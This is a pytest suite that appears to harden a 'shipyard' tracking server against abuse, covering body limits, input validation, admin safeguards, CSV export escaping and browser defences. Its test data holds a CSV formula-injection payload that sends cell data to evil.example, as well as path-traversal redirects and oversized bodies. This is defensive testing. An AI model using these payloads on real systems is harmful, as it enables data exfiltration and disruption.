"""The server under attack or careless use, through a real uvicorn on 127.0.0.1: bounded bodies and
counts, authentication before the body, bounded numbers and clean strings, safe administration,
batch ids, browser defences. Each test is one case a probe of the server found failing."""

from __future__ import annotations

import csv
import io
import socket
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from shipyard.app import App, build_app
from shipyard.config import load_settings
from support.live_server import LiveServer, start_live_server

ADMIN = "alice"
MAX_BODY = 256 * 1024
MAX_UPLOAD = 512 * 1024


@pytest.fixture
def app(tmp_path: Path) -> Iterator[App]:
    app = build_app(
        load_settings(
            home=tmp_path / "home",
            max_body_bytes=MAX_BODY,
            max_upload_bytes=MAX_UPLOAD,
            max_metric_points=1_000,
            max_tags=50,
            max_params=50,
            max_filter_terms=20,
        )
    )
    app.accounts.create_user(ADMIN, role="admin")
    app.accounts.create_user("vera", role="viewer")
    app.tracking.create_experiment("churn")
    yield app
    app.close()


def _client(server: LiveServer, token: str | None) -> httpx.Client:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return httpx.Client(base_url=server.url, headers=headers, timeout=30)


@pytest.fixture
def http(app: App, server: LiveServer) -> Iterator[httpx.Client]:
    with _client(server, app.accounts.create_token(ADMIN).secret) as client:
        yield client


@pytest.fixture
def viewer(app: App, server: LiveServer) -> Iterator[httpx.Client]:
    with _client(server, app.accounts.create_token("vera").secret) as client:
        yield client


@pytest.fixture
def run_id(app: App) -> str:
    return app.tracking.create_run("churn").id


def error(response: httpx.Response, status: int) -> dict[str, str | None]:
    assert response.status_code == status, response.text
    body: dict[str, dict[str, str | None]] = response.json()
    assert set(body["error"]) == {"type", "message", "field"}
    return body["error"]


# -- 1. bodies: authentication first, bounded, counted ----------------------------------------------


def test_malformed_json_without_a_token_is_401(server: LiveServer) -> None:
    with _client(server, None) as anonymous:
        response = anonymous.post(
            "/api/v1/runs", content=b'{"experiment": ', headers={"Content-Type": "application/json"}
        )
    assert error(response, 401)["type"] == "Unauthenticated"


def test_a_bad_token_never_gets_a_body_past_the_limit_read(server: LiveServer) -> None:
    with _client(server, "shp_not-a-token") as stranger:
        assert error(stranger.post("/api/v1/experiments", content=b"x" * (MAX_BODY * 4)), 413)
        assert (
            error(stranger.post("/api/v1/experiments", json={"name": "x"}), 401)["type"] == "Unauthenticated"
        )


def _raw_post(server: LiveServer, path: str, headers: dict[str, str], sent: bytes) -> bytes:
    """Send the request line, headers and only ``sent`` of the body, then read the answer."""
    host, port = server.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        lines = [f"POST {path} HTTP/1.1", f"Host: {host}:{port}", *(f"{k}: {v}" for k, v in headers.items())]
        sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode() + sent)
        answer = b""
        while b"\r\n\r\n" not in answer:
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
    return answer


def test_an_oversized_content_length_is_413_before_a_byte_is_read(app: App, server: LiveServer) -> None:
    token = app.accounts.create_token(ADMIN).secret
    headers = {
        "Authorization": f"Bearer {token}",
        "Content-Type": "application/json",
        "Content-Length": str(46 * 2**20),
    }
    started = time.monotonic()
    answer = _raw_post(server, "/api/v1/experiments", headers, b"{")  # the server never gets the rest
    assert answer.startswith(b"HTTP/1.1 413")
    assert time.monotonic() - started < 5


def test_a_streamed_body_past_the_limit_is_413_naming_the_setting(http: httpx.Client, run_id: str) -> None:
    def chunks() -> Iterator[bytes]:  # no Content-Length: chunked transfer
        yield b'{"tags": {"a": "'
        for _ in range(MAX_BODY // 1024 + 8):
            yield b"x" * 1024
        yield b'"}}'

    response = http.post(
        f"/api/v1/runs/{run_id}/tags", content=chunks(), headers={"Content-Type": "application/json"}
    )
    assert "max_body_bytes" in str(error(response, 413)["message"])


def test_an_upload_past_its_limit_is_413_and_stores_nothing(
    http: httpx.Client, app: App, run_id: str
) -> None:
    response = http.put(f"/api/v1/runs/{run_id}/artifacts/big.bin", content=b"\0" * (MAX_UPLOAD + 1))
    assert "max_upload_bytes" in str(error(response, 413)["message"])
    assert app.tracking.list_artifacts(run_id) == []
    small = http.put(f"/api/v1/runs/{run_id}/artifacts/small.bin", content=b"\0" * (MAX_BODY * 2))
    assert small.status_code == 201  # uploads have their own, larger class


def test_caps_per_request_name_their_setting(http: httpx.Client, app: App, run_id: str) -> None:
    points = [["loss", 0.5, i, 1_700_000_000_000] for i in range(1_001)]
    message = error(http.post(f"/api/v1/runs/{run_id}/metrics", json={"points": points}), 422)["message"]
    assert "max_metric_points" in str(message)
    tags = {f"t{i}": "v" for i in range(51)}
    assert "max_tags" in str(
        error(http.post(f"/api/v1/runs/{run_id}/tags", json={"tags": tags}), 422)["message"]
    )
    params = {f"p{i}": i for i in range(51)}
    message = error(http.post(f"/api/v1/runs/{run_id}/params", json={"params": params}), 422)["message"]
    assert "max_params" in str(message)


def test_a_run_holds_at_most_max_tags(http: httpx.Client, app: App, run_id: str) -> None:
    for start in (0, 25):
        tags = {f"t{i}": "v" for i in range(start, start + 25)}
        assert http.post(f"/api/v1/runs/{run_id}/tags", json={"tags": tags}).status_code == 204
    response = http.post(f"/api/v1/runs/{run_id}/tags", json={"tags": {"one-more": "v"}})
    assert "max_tags" in str(error(response, 422)["message"])
    assert len(app.tracking.get_run(run_id).tags) == 50  # the refused call changed nothing


# -- 2-5. numbers, durations, strings and filters never reach the database out of range -------------


def test_integers_past_the_database_range_are_422(
    viewer: httpx.Client, http: httpx.Client, run_id: str
) -> None:
    assert error(viewer.get("/api/v1/models/churn/versions/99999999999999999999"), 422)["field"]
    assert error(viewer.get("/api/v1/models/churn/compare?left=1&right=99999999999999999999"), 422)["field"]
    assert error(http.get("/api/v1/audit?offset=99999999999999999999"), 422)["field"] == "query.offset"
    for point in (["loss", 1.0, 1e20, 0], ["loss", 1.0, 0, 1e20], ["loss", 1.0, 2**63, 0]):
        response = http.post(f"/api/v1/runs/{run_id}/metrics", json={"points": [point]})
        assert str(error(response, 422)["field"]).startswith("body.points[0]")


def test_a_huge_token_lifetime_is_422(http: httpx.Client) -> None:
    response = http.post("/api/v1/me/tokens", json={"name": "forever", "expires_in_seconds": 10**12})
    assert error(response, 422)["field"] == "body.expires_in_seconds"


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/api/v1/runs/search", {"filter": "tags.x = '\ud800'"}),
        ("/api/v1/me/tokens", {"name": "laptop\udc00"}),
        ("/api/v1/experiments", {"name": "exp\ud800"}),
        ("/api/v1/experiments", {"name": "nul\u0000"}),
    ],
)
def test_lone_surrogates_and_control_characters_are_422(
    http: httpx.Client, path: str, body: dict[str, str]
) -> None:
    import json

    raw = json.dumps(body)  # ensure_ascii: the surrogate travels as a \\ud800 escape
    response = http.post(path, content=raw, headers={"Content-Type": "application/json"})
    assert error(response, 422)["type"] == "InvalidInput"


def test_a_filter_with_a_thousand_terms_is_422_naming_the_cap(viewer: httpx.Client) -> None:
    huge = " and ".join(f"metrics.m{i} > 0" for i in range(1_000))
    message = error(viewer.post("/api/v1/runs/search", json={"filter": huge}), 422)["message"]
    assert "max_filter_length" in str(message) or "max_filter_terms" in str(message)
    many = " and ".join(f"metrics.m{i} > 0" for i in range(21))
    assert "max_filter_terms" in str(
        error(viewer.post("/api/v1/runs/count", json={"filter": many}), 422)["message"]
    )
    deep = "not " * 100 + "metrics.a > 0"
    assert error(viewer.post("/api/v1/runs/count", json={"filter": deep}), 422)["field"] == "filter"
    assert viewer.post(
        "/api/v1/runs/count", json={"filter": "(" * 100 + "metrics.a > 0" + ")" * 100}
    ).is_success
    assert (
        viewer.post("/api/v1/runs/count", json={"filter": "metrics.a > 99999999999999999999"}).status_code
        == 200
    )


# -- 7-10. administration ---------------------------------------------------------------------------


def test_the_last_admin_cannot_be_disabled_or_demoted(http: httpx.Client, app: App) -> None:
    assert error(http.post(f"/api/v1/users/{ADMIN}/disable"), 409)["type"] == "Conflict"
    response = http.post("/api/v1/roles/revoke", json={"user": ADMIN, "role": "admin"})
    assert error(response, 409)["type"] == "Conflict"
    assert http.get("/api/v1/me").status_code == 200  # still in charge
    # With a second admin, the first may step down; a disabled user is enabled again.
    http.post("/api/v1/users", json={"name": "bob", "role": "admin"}).raise_for_status()
    assert http.post("/api/v1/users/bob/disable").json()["disabled"] is True
    assert error(http.post(f"/api/v1/users/{ADMIN}/disable"), 409)["type"] == "Conflict"  # bob is disabled
    assert http.post("/api/v1/users/bob/enable").json()["disabled"] is False
    assert http.post("/api/v1/roles/revoke", json={"user": ADMIN, "role": "admin"}).status_code == 200


@pytest.mark.parametrize(
    "name", ["ali\u200bce", "\u0430lice", "nul\u0000", "<b>bob</b>", "a b", "", "-dash", "x" * 65, "über"]
)
def test_user_names_are_plain(http: httpx.Client, name: str) -> None:
    assert error(http.post("/api/v1/users", json={"name": name}), 422)["field"] in (
        "name",
        "body.name",
        "body",
    )


def test_plain_user_names_are_accepted(http: httpx.Client) -> None:
    for name in ("bob", "ci-bot_2", "ops@example.com", "j.doe"):
        assert http.post("/api/v1/users", json={"name": name}).status_code == 201


def test_the_csv_export_never_holds_a_formula(http: httpx.Client, app: App) -> None:
    from shipyard.audit import log

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with app.db.write() as conn:  # an actor is free text in embedded mode (SHIPYARD_USER)
        log.append(conn, actor=formula, action="model.create", object_type="model", object_id="@SUM(1+1)")
    text = http.get("/api/v1/audit/export?format=csv").text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "'" + formula in cells and "'@SUM(1+1)" in cells
    assert app.audit.verify().valid  # the chain itself is untouched


def test_tokens_record_their_last_use_and_expire_by_default(app: App, server: LiveServer) -> None:
    issued = app.accounts.create_token("vera", name="laptop")
    assert issued.token.expires_at is not None
    lifetime = issued.token.expires_at - issued.token.created_at
    assert abs(lifetime - timedelta(days=90)) < timedelta(seconds=5)
    assert issued.token.last_used_at is None
    with _client(server, issued.secret) as client:
        assert client.get("/api/v1/me").status_code == 200
    (token,) = [t for t in app.accounts.list_tokens("vera") if t.id == issued.token.id]
    assert token.last_used_at is not None
    assert datetime.now(UTC) - token.last_used_at < timedelta(minutes=1)


def test_token_lifetime_default_is_a_setting(tmp_path: Path) -> None:
    app = build_app(load_settings(home=tmp_path / "h", token_lifetime_days=0))
    try:
        app.accounts.create_user("ci")
        assert app.accounts.create_token("ci").token.expires_at is None
    finally:
        app.close()


# -- 11. batch ids name one batch ------------------------------------------------------------------


def test_a_batch_id_reused_with_other_points_is_409(http: httpx.Client, app: App, run_id: str) -> None:
    batch = {"batch_id": "b-1", "points": [["loss", 0.5, 1, 1_700_000_000_000]]}
    assert http.post(f"/api/v1/runs/{run_id}/metrics", json=batch).json() == {"stored": 1}
    assert http.post(f"/api/v1/runs/{run_id}/metrics", json=batch).json() == {"stored": 0}  # a retry
    other = {"batch_id": "b-1", "points": [["loss", 0.1, 2, 1_700_000_000_001]]}
    assert error(http.post(f"/api/v1/runs/{run_id}/metrics", json=other), 409)["field"] == "batch_id"
    assert [m.value for m in app.tracking.metric_history(run_id, "loss")] == [0.5]


# -- 12. browser defences ---------------------------------------------------------------------------


def test_ui_pages_carry_the_browser_defences(server: LiveServer) -> None:
    response = httpx.get(f"{server.url}/ui/login")
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"
    csp = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp


@pytest.mark.parametrize(
    "headers",
    [{"Origin": "https://evil.example"}, {"Sec-Fetch-Site": "cross-site"}, {"Origin": "null"}],
)
def test_cross_site_posts_to_the_ui_are_refused(server: LiveServer, headers: dict[str, str]) -> None:
    for path in ("/ui/logout", "/ui/login"):
        response = httpx.post(f"{server.url}{path}", headers=headers, follow_redirects=False)
        assert response.status_code == 403, path


def test_same_origin_logout_still_works(server: LiveServer) -> None:
    host = server.url.removeprefix("http://")
    response = httpx.post(
        f"{server.url}/ui/logout", headers={"Origin": server.url, "Host": host}, follow_redirects=False
    )
    assert response.status_code == 303


@pytest.mark.parametrize("target", ["/ui/../../x", "/ui/%2e%2e/%2e%2e/x", "/ui/./../admin"])
def test_next_stays_inside_the_ui(app: App, server: LiveServer, target: str) -> None:
    token = app.accounts.create_token(ADMIN).secret
    response = httpx.post(
        f"{server.url}/ui/login", data={"token": token, "next": target}, follow_redirects=False
    )
    assert response.status_code == 303
    assert response.headers["location"] == "/ui"


def test_cookies_are_secure_when_the_server_is_behind_https(tmp_path: Path) -> None:
    app = build_app(load_settings(home=tmp_path / "h", https=True))
    app.accounts.create_user("root", role="admin")
    token = app.accounts.create_token("root").secret
    try:
        with start_live_server(app) as server:
            response = httpx.post(f"{server.url}/ui/login", data={"token": token}, follow_redirects=False)
        assert "secure" in response.headers["set-cookie"].lower()
    finally:
        app.close()


# -- 1 (UI). a run's page pages its long lists ------------------------------------------------------


def test_a_run_page_pages_tags_params_and_artifacts(tmp_path: Path) -> None:
    import re

    app = build_app(load_settings(home=tmp_path / "h"))
    app.accounts.create_user("root", role="admin")
    token = app.accounts.create_token("root").secret
    app.tracking.create_experiment("wide")
    run = app.tracking.create_run("wide", tags={f"tag{i:03}": "x" * 200 for i in range(250)})
    app.tracking.log_params(run.id, {f"p{i:03}": i for i in range(250)})
    for i in range(120):
        app.tracking.store_artifact(run.id, f"a/{i:03}.txt", io.BytesIO(b"x"))
    try:
        with start_live_server(app) as server:
            pages = [
                httpx.get(
                    f"{server.url}/ui/runs/{run.id}?page={n}", headers={"Authorization": f"Bearer {token}"}
                )
                for n in (1, 3)
            ]
    finally:
        app.close()
    first, third = (p.text for p in pages)
    assert all(p.status_code == 200 for p in pages)
    assert len(re.findall(r"<th>tag\d{3}</th>", first)) == 100
    assert len(re.findall(r"<th>p\d{3}</th>", first)) == 100
    assert len(re.findall(r"download>a/\d{3}\.txt<", first)) == 100
    assert "Page 1 of 3" in first and 'rel="next"' in first
    assert len(re.findall(r"<th>tag\d{3}</th>", third)) == 50 and "<th>tag249</th>" in third
    assert len(re.findall(r"download>a/\d{3}\.txt<", third)) == 0
    assert len(first) < 150_000  # bounded, whatever the run holds
